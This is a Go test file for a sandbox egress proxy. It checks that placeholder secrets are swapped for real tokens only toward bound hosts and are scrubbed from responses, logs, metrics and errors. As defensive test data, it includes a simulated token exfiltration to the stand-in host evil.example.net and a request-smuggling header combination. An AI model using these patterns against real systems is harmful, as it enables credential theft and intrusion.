package egress

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"testing/iotest"
	"unicode"
)

// TestSecretNeverLeaks drives every path a secret could take and scans everything the proxy
// produces (decisions, Summary, logs, metrics, answers to the sandbox, errors) for the value.
func TestSecretNeverLeaks(t *testing.T) {
	h := setup(t, nil)
	ph := h.placeholder(t)
	var seen bytes.Buffer // everything the sandbox side got back
	do := func(method, u string, hdr map[string]string) {
		req, _ := http.NewRequest(method, u, strings.NewReader("body "+ph))
		for k, v := range hdr {
			req.Header.Set(k, v)
		}
		resp, err := h.client(t).Do(req)
		if err != nil {
			seen.WriteString(err.Error())
			return
		}
		defer resp.Body.Close()
		if err := resp.Header.Write(&seen); err != nil {
			t.Fatal(err)
		}
		if _, err := io.Copy(&seen, resp.Body); err != nil {
			t.Fatal(err)
		}
		if err := resp.Trailer.Write(&seen); err != nil {
			t.Fatal(err)
		}
	}
	auth := map[string]string{"Authorization": "Bearer " + ph, "X-Api-Key": ph}
	do("GET", "https://api.example.com/v1", auth)
	do("POST", "https://api.example.com/v1", auth)
	do("GET", "https://user:"+url.PathEscape(ph)+"@api.example.com/basic", nil)
	// The bound host hands back request fields it got: the swapped value must not come back.
	do("GET", "https://api.example.com/echo", map[string]string{"X-Request-Id": ph, "Origin": ph, "X-Echo": ph})
	do("GET", "https://api.example.com/echo", map[string]string{"X-Request-Id": "Basic " + base64.StdEncoding.EncodeToString([]byte("u:"+ph))})
	do("GET", "https://pkg.example.com/", auth)
	do("GET", "http://api.example.com/", auth)
	do("GET", "https://lo.files.example.com/", auth)
	do("GET", "http://evil.example.net/?k="+ph, auth)
	_, reason := h.raw(t, getReq("http://plain.example.com/", "plain.example.com", "Authorization: "+ph+"\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n"))
	seen.WriteString(string(reason))

	// The value did reach the bound host, on TLS, and only there.
	if got := h.tlsUp.reqs[0].Header.Get("Authorization"); got != "Bearer "+realToken {
		t.Fatalf("the bound host saw %q, want the real value", redact(got))
	}
	if u, p, _ := h.tlsUp.reqs[2].BasicAuth(); u != "user" || p != realToken {
		t.Fatalf("Basic credentials to the bound host: %q, want the real value", redact(p))
	}
	for _, r := range append(h.tlsUp.reqs[5:], h.plainUp.reqs...) {
		for k, v := range r.Header {
			if strings.Contains(strings.Join(v, ","), realToken) {
				t.Errorf("%s %s got the real value in %s", r.Method, r.Host, k)
			}
		}
	}

	_, err := New(Config{}, Policy{Allow: []string{"a.example.com"}, Secrets: []Secret{{Env: "T", Value: realToken + "\n", Hosts: []string{"a.example.com"}}}})
	if !errors.Is(err, ErrInvalidPolicy) {
		t.Fatalf("New with a newline in a value: %v", err)
	}
	_, err2 := New(Config{}, Policy{Allow: []string{"a.example.com"}, Secrets: []Secret{{Env: "T", Value: realToken, Hosts: []string{"b.example.com"}}}})
	decisions, _ := json.Marshal(h.all())
	summary, _ := json.Marshal(h.proxy.Summary())
	outputs := map[string]string{
		"decisions": string(decisions), "summary": string(summary), "logs": h.logs.String(),
		"metrics": gatherText(t, h), "sandbox": seen.String(), "errors": err.Error() + err2.Error(),
	}
	for name, out := range outputs {
		if out == "" {
			t.Errorf("%s is empty: the scan would prove nothing", name)
		}
		if strings.Contains(out, realToken) {
			t.Errorf("the real value is in the %s", name)
		}
	}
	if enc := base64.StdEncoding.EncodeToString([]byte("u:" + realToken)); strings.Contains(seen.String(), enc) {
		t.Error("the real value came back to the sandbox in Basic credentials")
	}
	if s := h.proxy.Summary(); len(s.Secrets) != 1 || s.Secrets[0] != "EXAMPLE_TOKEN" {
		t.Errorf("Summary secrets %v, want [EXAMPLE_TOKEN]", s.Secrets)
	}
}

func gatherText(t *testing.T, h *harness) string {
	t.Helper()
	mfs, err := h.reg.Gather()
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	for _, mf := range mfs {
		b.WriteString(mf.String()) // every name, label value and sample
	}
	return b.String()
}

func TestPlaceholderShape(t *testing.T) {
	for _, value := range []string{realToken, "ghp_0123456789abcdefABCDEF0123456789abcd", "AKIA0123456789ABCDEF", "a.b-c_d/e+f=g0123456789"} {
		ph, err := placeholderFor(value)
		if err != nil {
			t.Fatal(err)
		}
		if ph == value || len(ph) != len(value) {
			t.Fatalf("placeholder %q for a %d-byte value", ph, len(value))
		}
		for i, c := range []byte(value) {
			p := ph[i]
			same := unicode.IsLower(rune(c)) == unicode.IsLower(rune(p)) && unicode.IsUpper(rune(c)) == unicode.IsUpper(rune(p)) &&
				unicode.IsDigit(rune(c)) == unicode.IsDigit(rune(p))
			if !same || (classOf(rune(c)) == "" && c != p) {
				t.Fatalf("placeholder %q differs in shape from the value at %d", ph, i)
			}
		}
	}
	if _, err := placeholderFor("short-1"); err == nil {
		t.Fatal("a value with 6 letters and digits got a placeholder")
	}
}

func TestEnv(t *testing.T) {
	h := setup(t, nil)
	env := map[string]string{}
	for _, kv := range h.proxy.Env("127.0.0.1:3128", "/etc/boxcar/ca.pem") {
		k, v, _ := strings.Cut(kv, "=")
		env[k] = v
	}
	for _, k := range []string{"HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"} {
		if env[k] != "http://127.0.0.1:3128" {
			t.Errorf("%s=%q", k, env[k])
		}
	}
	for _, k := range []string{"SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "NODE_EXTRA_CA_CERTS", "GIT_SSL_CAINFO", "PIP_CERT", "CURL_CA_BUNDLE"} {
		if env[k] != "/etc/boxcar/ca.pem" {
			t.Errorf("%s=%q", k, env[k])
		}
	}
	if env["NO_PROXY"] == "" || env["no_proxy"] != env["NO_PROXY"] {
		t.Errorf("NO_PROXY=%q no_proxy=%q", env["NO_PROXY"], env["no_proxy"])
	}
	if ph := env["EXAMPLE_TOKEN"]; ph == "" || ph == realToken || len(ph) != len(realToken) {
		t.Errorf("EXAMPLE_TOKEN is not a placeholder of the value's shape")
	}
}

// TestScrubBody: a value the upstream echoes in a body becomes its placeholder however the
// body is cut into reads, and only a tail that could begin a value waits for more.
func TestScrubBody(t *testing.T) {
	swaps := []swap{{real: []byte("REAL-value-12"), ph: []byte("fake-value-99")}}
	tests := []struct {
		name, in, want string
		oneByte        bool
	}{
		{"whole in one read", "a REAL-value-12 b", "a fake-value-99 b", false},
		{"cut into single bytes", "a REAL-value-12 b REAL-value-12", "a fake-value-99 b fake-value-99", true},
		{"at the very end", "xREAL-value-12", "xfake-value-99", true},
		{"a prefix that is not the value", "REAL-value-1 REAL-v", "REAL-value-1 REAL-v", true},
		{"overlapping start", "REAL-REAL-value-12", "REAL-fake-value-99", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var r io.Reader = strings.NewReader(tt.in)
			if tt.oneByte {
				r = iotest.OneByteReader(r)
			}
			done := false
			got, err := io.ReadAll(&scrubBody{ReadCloser: io.NopCloser(r), swaps: swaps, done: func() { done = true }})
			if err != nil || string(got) != tt.want || !done {
				t.Fatalf("got %q, %v, done %v; want %q", got, err, done, tt.want)
			}
		})
	}
	if n := heldTail([]byte("data: x\n\n"), swaps); n != 0 {
		t.Errorf("an event's end is held back (%d bytes)", n)
	}
	if n := heldTail([]byte("data: REAL-va"), swaps); n != len("REAL-va") {
		t.Errorf("held %d bytes of a value's start, want %d", n, len("REAL-va"))
	}
}

// TestScrubResponse: every part of an answer the sandbox reads is scrubbed: status line,
// header fields, body and trailers.
func TestScrubResponse(t *testing.T) {
	const real, ph = "REAL-value-12", "fake-value-99"
	swaps := []swap{{real: []byte(real), ph: []byte(ph)}}
	resp := &http.Response{
		Status: "400 bad id " + real, StatusCode: 400, ProtoMajor: 1, ProtoMinor: 1, ContentLength: -1, TransferEncoding: []string{"chunked"},
		Header:  http.Header{"X-Request-Id": {real}, "Access-Control-Allow-Origin": {"https://" + real}},
		Trailer: http.Header{"X-Echo": nil},
		Body:    io.NopCloser(strings.NewReader("quoted: " + real)),
	}
	resp.Body = trailerAtEOF{resp.Body, resp.Trailer, real}
	scrubResponse(resp, swaps)
	var out bytes.Buffer
	if err := resp.Write(&out); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(out.String(), real) || strings.Count(out.String(), ph) != 5 {
		t.Fatalf("answer as the sandbox reads it:\n%s", out.String())
	}
}

// trailerAtEOF fills a trailer when its body ends, as the Transport does.
type trailerAtEOF struct {
	io.ReadCloser
	trailer http.Header
	value   string
}

func (b trailerAtEOF) Read(p []byte) (int, error) {
	n, err := b.ReadCloser.Read(p)
	if err == io.EOF {
		b.trailer.Set("X-Echo", b.value)
	}
	return n, err
}
